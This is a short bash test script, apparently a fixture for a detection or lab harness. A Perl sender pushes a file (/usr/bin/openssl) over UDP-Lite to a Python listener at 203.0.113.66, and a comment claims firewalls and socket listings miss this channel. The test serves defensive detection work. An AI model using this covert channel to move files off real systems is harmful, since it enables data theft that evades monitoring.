#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=covert-socket half=report tool=perl far=out seconds=24 parts=dns
# Perl sends a file outside by UDP-Lite, which no firewall knows and no list of sockets shows.
# shellcheck disable=SC2016 # perl has its own variables
if [ "$1" = out ]; then exec timeout 40 python3 -c 'import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); s.bind(("203.0.113.66", 4700)); f = open(sys.argv[1], "ab", 0)
while True: f.write(s.recv(4000))' "$LAB/got"; fi
sleep 2; timeout 20 perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 136) or die; my $to = pack_sockaddr_in(4700, inet_aton("203.0.113.66")); open(F, "<", "/usr/bin/openssl");
for (1 .. 300) { read(F, my $d, 1000); send(S, $d, 0, $to); select(undef, undef, undef, 0.04); }'
sleep 2; [ "$(stat -c %s "$LAB/got")" -gt 250000 ]
